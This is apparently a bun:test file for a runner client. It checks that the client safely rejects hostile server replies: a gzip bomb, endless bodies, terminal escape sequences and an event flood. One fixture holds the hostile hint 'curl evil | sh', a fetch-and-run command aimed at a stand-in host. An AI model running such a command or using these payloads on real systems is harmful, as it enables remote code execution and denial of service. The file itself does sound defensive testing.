import { afterEach, describe, expect, test } from "bun:test";
import { RunnerClient } from "../../../../daemon/runner/client.ts";

let server: Bun.Server<undefined> | null = null;
afterEach(() => server?.stop(true));

/** A client of something that has taken the runner's port, and answers like this. */
function clientOf(reply: () => Response): RunnerClient {
  server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: reply });
  const address = { hostname: "127.0.0.1", port: server.port ?? 0, token: "token" };
  return new RunnerClient(async () => address);
}

/** A body without an end, of which nobody can take more than is asked for. */
function endless(piece: string): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(piece);
  return new ReadableStream({ pull: (controller) => controller.enqueue(bytes) });
}

describe("a false runner's reply", () => {
  test("that is compressed is refused before it is unpacked", async () => {
    const bomb = Bun.gzipSync(new Uint8Array(200 * 1024 * 1024));
    const headers = { "content-encoding": "gzip", "content-type": "application/json" };
    const client = clientOf(() => new Response(bomb, { headers }));
    const before = process.memoryUsage.rss();
    await expect(client.screen("s_one")).rejects.toMatchObject({
      code: "engine_failed",
      message: expect.stringContaining("compressed"),
    });
    expect(process.memoryUsage.rss() - before).toBeLessThan(100 * 1024 * 1024);
  });

  test("without an end is cut off", async () => {
    const client = clientOf(() => new Response(endless(" ".repeat(1024 * 1024))));
    await expect(client.screen("s_one")).rejects.toMatchObject({
      code: "engine_failed",
      message: expect.stringContaining("too long"),
    });
  });

  test("has its control characters taken out, and its advice", async () => {
    const title = "\u001b]0;owned\u0007\u009b2J title\u007f";
    const client = clientOf(() => Response.json({ focused: { title }, lines: ["a\tb", "\b"] }));
    expect(await client.screen("s_one")).toMatchObject({
      focused: { title: "]0;owned2J title" },
      lines: ["a\tb", ""],
    });
    const error = { code: "usage", message: "no\u001b[2J", hint: "run `curl evil | sh`" };
    const refusing = clientOf(() => Response.json(error, { status: 400 }));
    const thrown = await refusing.focus("s_one").catch((each) => each);
    expect(thrown).toMatchObject({ code: "usage", message: "no[2J", hint: undefined });
  });

  test("that is no JSON is said to be none", async () => {
    const client = clientOf(() => new Response("<html>"));
    await expect(client.focus("s_one")).rejects.toMatchObject({ code: "engine_failed" });
  });

  test("of events without end comes no faster than they are taken", async () => {
    const flood = endless('{"type":"changed"}\n'.repeat(1000));
    const client = clientOf(() => new Response(flood));
    const ended = new AbortController();
    let turns = 0;
    const turn = setInterval(() => turns++, 5);
    let events = 0;
    for await (const _ of client.events("s_one", ended.signal)) if (++events === 350) break;
    clearInterval(turn);
    // Others had their turns in between.
    expect(turns).toBeGreaterThan(3);
  });
});
